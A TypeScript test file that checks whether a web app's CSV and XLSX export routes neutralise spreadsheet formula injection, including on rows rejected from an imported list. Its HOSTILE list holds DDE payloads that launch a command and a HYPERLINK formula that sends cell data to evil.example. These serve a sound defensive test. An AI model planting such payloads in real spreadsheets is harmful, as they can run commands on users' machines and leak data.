// Issue 14 §5: spreadsheet formulas never leave the app. Every route handler
// that writes a CSV or an XLSX is listed from the code (a new one fails this
// test until it is added below), called as a user allowed to use it with
// hostile values in every text the users control (team and sector names, the
// cells of an imported list), and every cell it wrote is read back: none may
// start a formula, numbers stay numbers.
import { beforeAll, describe, expect, it, vi } from "vitest";

const current = vi.hoisted(() => ({ user: null as unknown }));
vi.mock("@/lib/server/session", () => ({
  getCurrentUser: async () => current.user,
  getSessionState: async () => ({ user: current.user }),
  requireUser: async () => current.user,
}));

import fs from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import Papa from "papaparse";
import { NextRequest } from "next/server";
import { safeCell } from "@/lib/domain/export/spreadsheet-cell";
import { encodeWindows1252, sampleRow, SAMPLE_HEADERS, toCells, toCsvText } from "@/lib/domain/import/sample-list";
import { db } from "@/lib/server/db";
import { importList } from "@/lib/server/import/run-import";
import { addDays, calendarDate } from "../factories/calendar";
import { insertCasePlans, planCaseAtState } from "../factories/case-at-state";
import { createRng } from "../factories/random";
import { createTeam } from "../factories/team";
import { createUser } from "../factories/user";
import { listRouteHandlers } from "./permission-walk/surface";

const ROOT = path.resolve(import.meta.dirname, "../..");
const NOW = new Date("2026-06-30T10:00:00Z");

/** OWASP's examples and ours: each must come back neutralised, in every file. */
const HOSTILE = [
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
];

/** Every CSV/XLSX route and the files it serves, as the code declares them. */
function exportRoutesFromCode(): Record<string, string[]> {
  const out: Record<string, string[]> = {};
  for (const entry of listRouteHandlers()) {
    const file = entry.split("#")[0]!;
    const source = fs.readFileSync(path.join(ROOT, file), "utf8");
    if (!/text\/csv|spreadsheetml/.test(source)) continue;
    const named = [...source.matchAll(/"([\w-]+\.(?:csv|xlsx))"\s*:/g)].map((m) => m[1]!);
    out[file] = named.length ? [...new Set(named)].sort() : ["(one file)"];
  }
  return out;
}

type Cells = Array<string | number | boolean | Date | null>;

async function readBack(body: ArrayBuffer, kind: "csv" | "xlsx"): Promise<Cells> {
  if (kind === "csv") {
    const text = new TextDecoder("utf-8").decode(body).replace(/^\uFEFF/, "");
    return (Papa.parse<string[]>(text, { delimiter: ";", skipEmptyLines: true }).data as string[][]).flat();
  }
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(body) as unknown as ArrayBuffer);
  const cells: Cells = [];
  wb.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, `${sheet.name}!${cell.address} is a formula`).not.toBe(ExcelJS.ValueType.Formula);
        cells.push(cell.value as Cells[number]);
      }),
    ),
  );
  return cells;
}

function expectSafe(cells: Cells, where: string, mustContain: string[]): void {
  for (const c of cells) if (typeof c === "string") expect(safeCell(c), `${where}: ${JSON.stringify(c)}`).toBe(c);
  const text = cells.filter((c): c is string => typeof c === "string");
  for (const hostile of mustContain) expect(text.some((c) => c.includes(`'${hostile}`) || c.includes(hostile)), `${where} lost ${hostile}`).toBe(true);
  expect(cells.some((c) => typeof c === "number") || cells.some((c) => typeof c === "string" && /^\d+$/.test(c)), `${where}: numbers stay numbers`).toBe(true);
}

let coordinator: { id: string; role: "COORDINATOR"; teamIds: string[]; teams: { id: string; name: string }[]; name: string; email: string };
let batchId: string;

describe("formula-safe exports", () => {
  beforeAll(async () => {
    const team = await createTeam(db, { name: HOSTILE[1]!, sectors: [HOSTILE[0]!, HOSTILE[2]!] });
    const rng = createRng(7);
    await insertCasePlans(
      db,
      Array.from({ length: 6 }, (_, i) =>
        planCaseAtState({ teamId: team.id, state: "FIRST_LETTER_SENT", openedOn: addDays(calendarDate(2026, 1, 6), i * 9), now: NOW, sectorId: team.sectors[i % 2]!.id, rng: rng.fork() }),
      ),
    );
    const u = await createUser(db, { role: "COORDINATOR", teamId: team.id });
    coordinator = { id: u.id, role: "COORDINATOR", teamIds: [team.id], teams: [{ id: team.id, name: team.name }], name: u.name, email: u.email };

    // An imported list whose rejected row carries hostile cells.
    const today = new Date(Date.UTC(2026, 5, 30));
    const bad = { ...sampleRow(1, today), "Nom du locataire": HOSTILE[0]!, Adresse: HOSTILE[3]!, "Dette locative": "abc" };
    const bytes = encodeWindows1252(toCsvText([[...SAMPLE_HEADERS], toCells(sampleRow(2, today)), toCells(bad)]));
    batchId = (await importList(db, coordinator, { teamId: team.id, fileName: `${HOSTILE[2]}.csv`, bytes }, NOW)).batchId;
    current.user = coordinator;
  });

  it("lists every CSV/XLSX route from the code, and this test covers each", () => {
    expect(exportRoutesFromCode()).toEqual({
      "app/(app)/import/[id]/rejets/route.ts": ["(one file)"],
      "app/(app)/indicateurs/export/[fichier]/route.ts": ["dossiers.csv", "dossiers.xlsx", "indicateurs.csv", "indicateurs.xlsx"],
    });
  });

  for (const fichier of ["dossiers.csv", "dossiers.xlsx", "indicateurs.csv", "indicateurs.xlsx"]) {
    it(`/indicateurs/export/${fichier}: no cell starts a formula`, async () => {
      const { GET } = await import("@/app/(app)/indicateurs/export/[fichier]/route");
      const response = await GET(new NextRequest(`http://localhost:3000/indicateurs/export/${fichier}?du=2026-01-01&au=2026-06-30`), { params: Promise.resolve({ fichier }) });
      expect(response.status).toBe(200);
      const cells = await readBack(await response.arrayBuffer(), fichier.endsWith(".csv") ? "csv" : "xlsx");
      // The case list names the team and the sector; the indicators name the team in their scope line (XLSX) only.
      const expected = fichier.startsWith("dossiers") ? [HOSTILE[0]!, HOSTILE[1]!, HOSTILE[2]!] : [];
      expectSafe(cells, fichier, expected);
    });
  }

  it("/import/<id>/rejets: the rejected row's hostile cells are neutralised", async () => {
    const { GET } = await import("@/app/(app)/import/[id]/rejets/route");
    const response = await GET(new NextRequest(`http://localhost:3000/import/${batchId}/rejets`), { params: Promise.resolve({ id: batchId }) });
    expect(response.status).toBe(200);
    const cells = await readBack(await response.arrayBuffer(), "csv");
    expectSafe(cells, "rejets.csv", [HOSTILE[0]!, HOSTILE[3]!]);
    expect(cells).toContain(`'${HOSTILE[0]}`);
  });
});
